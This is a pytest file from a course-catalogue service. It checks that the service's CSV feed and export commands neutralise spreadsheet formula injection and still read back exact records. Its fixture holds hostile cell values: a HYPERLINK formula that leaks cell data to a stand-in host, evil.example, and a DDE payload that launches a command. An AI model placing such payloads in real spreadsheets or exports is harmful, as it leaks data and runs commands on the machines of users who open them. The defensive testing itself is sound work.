"""Spreadsheet formula injection: a course title that starts like a formula (=, +, -, @) comes out of
every CSV fagmatch writes (the feed at /feed/courses.csv, `export --format csv|feed-csv`, the plan) as
text, and the record CSV still reads back to the same records."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from matcher.ingest import ingest_file
from matcher.store import open_catalogue
from matcher.tabular import spreadsheet_cell, spreadsheet_text
from service.app import create_app
from service.state import ServiceConfig
from tests.conftest import course_record, write_jsonl

EVIL = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1;"Klik")',
    "provider": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "+45 12 34 56 78",
    "location": "-2+3",
    "target_group": "'=already quoted",
}


@pytest.fixture
def evil_db(tmp_path: Path) -> Path:
    db = tmp_path / "catalogue.duckdb"
    assert ingest_file(db, write_jsonl(tmp_path / "feed.jsonl", [course_record(1, **EVIL), course_record(2)])).new == 2
    return db


# What Excel and LibreOffice run as a formula: written out here, not taken from the code under test.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter) for cell in row]


def _disarmed(text: str) -> None:
    cells = _cells(text)
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + EVIL["title"] in cells and "'" + EVIL["provider"] in cells


def test_the_feed_csv_over_http_disarms_formulas(evil_db: Path) -> None:
    with TestClient(create_app(ServiceConfig(db=evil_db), warm=False)) as client:
        response = client.get("/feed/courses.csv")
    assert response.status_code == 200
    _disarmed(response.text)


@pytest.mark.parametrize("fmt", ["csv", "feed-csv"])
def test_export_disarms_formulas(evil_db: Path, run_cli, fmt: str) -> None:
    result = run_cli("export", "--format", fmt)
    assert result.exit_code == 0, result.output
    _disarmed(result.stdout)


def test_the_record_csv_still_round_trips(evil_db: Path, run_cli, tmp_path: Path) -> None:
    exported = tmp_path / "export.csv"
    assert run_cli("export", "--format", "csv", "--output", str(exported)).exit_code == 0
    again = tmp_path / "again.duckdb"
    assert ingest_file(again, exported).new == 2
    with open_catalogue(evil_db) as before, open_catalogue(again) as after:
        assert [c.to_record() | {"source": None} for c in after.courses()] == \
            [c.to_record() | {"source": None} for c in before.courses()]
        assert after.course("test-1").title == EVIL["title"]


@given(st.text(st.sampled_from("'=+-@\t\rab"), max_size=8))
def test_spreadsheet_cells_read_back_exactly(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert spreadsheet_text(cell) == text
